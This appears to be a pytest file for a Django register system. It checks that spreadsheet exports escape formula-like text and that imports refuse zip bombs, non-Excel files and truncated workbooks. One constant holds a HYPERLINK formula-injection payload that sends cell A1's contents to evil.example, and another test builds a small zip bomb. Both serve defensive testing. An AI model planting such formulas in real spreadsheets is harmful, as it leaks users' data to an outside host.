"""Register exports and imports go through fengqiao.web.spreadsheets: text typed like a formula is
exported as text (ID numbers unchanged), and a zip bomb, a file that is not a workbook or a damaged
one is refused with a report naming the file, never a 500."""

import io
import zipfile
from io import BytesIO

import pytest
from openpyxl import load_workbook

from fengqiao.basedata.models import Entry
from fengqiao.web.spreadsheets import build_workbook, workbook_bytes
from fengqiao.web.tests.test_spreadsheets import _zip

from .helpers import file_entry

pytestmark = pytest.mark.django_db
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def damaged_workbook(header: list, row: list) -> io.BytesIO:
    """A workbook whose worksheet XML stops halfway: it opens, then breaks while its rows are read."""
    sound = io.BytesIO(workbook_bytes(build_workbook({"表": (header, [row] * 2000)})))
    with zipfile.ZipFile(sound) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    sheet = members["xl/worksheets/sheet1.xml"]
    members["xl/worksheets/sheet1.xml"] = sheet[: len(sheet) // 2]
    damaged = _zip(members)
    damaged.name = "damaged.xlsx"
    return damaged


def test_an_address_typed_like_a_formula_is_exported_as_text(client, users):
    grid = users["grid1"].region_id
    entry = file_entry(users["grid1"], "mental_disorder", grid, address=HOSTILE, phone="13905710101")
    client.force_login(users["county"])
    response = client.post("/basedata/registers/mental_disorder/export.xlsx", {"region": grid})
    assert response.status_code == 200
    sheet = load_workbook(BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    row = next(
        row for row in sheet.iter_rows(min_row=2) if row[header.index("姓名")].value == entry.person.name
    )
    address = row[header.index("地址")]
    assert address.data_type == "s" and address.value == "'" + HOSTILE
    assert row[header.index("身份证号")].value == entry.person.id_number


def test_a_zip_bomb_a_non_workbook_or_a_damaged_sheet_is_refused_naming_the_file(client, users):
    before = Entry.objects.count()
    client.force_login(users["grid1"])
    bomb = _zip({"xl/worksheets/sheet1.xml": b"\x00" * (2 * 1024 * 1024)})  # 2 MB of zeros in a few kB
    bomb.name = "sheet.xlsx"
    response = client.post("/api/v1/basedata/registers/mental_disorder/import", {"file": bomb})
    assert response.status_code == 422
    [error] = response.json()["errors"]
    assert error["column"] == "文件" and "压缩炸弹" in error["reason"]

    text = BytesIO("姓名,所属网格\n导入甲,1\n".encode())
    text.name = "sheet.xlsx"
    page = client.post("/basedata/registers/mental_disorder/import/", {"sheet": text})
    assert page.status_code == 200
    assert "文件" in page.content.decode() and "不是有效的 Excel" in page.content.decode()

    damaged = damaged_workbook(["所属网格", "姓名", "备注"], [None, None, "仅有备注的空行"])
    response = client.post("/api/v1/basedata/registers/mental_disorder/import", {"file": damaged})
    assert response.status_code == 422
    [error] = response.json()["errors"]
    assert error["column"] == "文件" and "损坏" in error["reason"]
    assert Entry.objects.count() == before
